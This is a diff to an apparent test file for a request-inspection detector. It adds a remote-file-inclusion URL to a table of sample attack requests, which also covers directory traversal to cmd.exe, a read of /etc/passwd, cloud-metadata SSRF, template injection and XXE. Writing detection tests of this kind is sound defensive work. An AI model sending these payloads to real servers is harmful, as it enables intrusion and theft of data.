@@ -24,6 +24,7 @@ describe('inspectRequest', () => {
     ['traversal', '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir'],
     ['rce', '/;cat%20/etc/passwd'],
     ['rfi', '/index.php?page=http://evil.example/x.txt'],
+    ['rfi', '/index.php?config[%22dir%22]=http://evil.example/x.txt?'],
     ['ssrf', '/proxy?url=http://169.254.169.254/'],
     ['ssti', '/?q=%7B%7B7*7%7D%7D'],
     ['xxe', '/?x=%3C!DOCTYPE%20x%20[%3C!ENTITY%20e%20SYSTEM%20%22file:///a%22%3E]%3E'],
